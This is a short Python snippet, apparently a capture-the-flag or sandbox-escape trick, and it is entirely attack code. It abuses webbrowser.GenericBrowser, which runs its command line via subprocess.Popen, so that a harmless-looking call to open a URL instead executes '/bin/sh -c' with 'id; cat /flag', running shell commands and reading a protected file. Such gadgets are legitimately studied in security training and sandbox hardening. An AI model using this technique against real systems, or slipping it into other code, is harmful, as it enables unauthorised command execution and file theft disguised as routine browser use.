# webbrowser.GenericBrowser runs its command line with subprocess.Popen
# when asked to "open" a URL.
import webbrowser

viewer = webbrowser.GenericBrowser(["/bin/sh", "-c", "id; cat /flag", "%s"])
viewer.open("https://example.org/report")
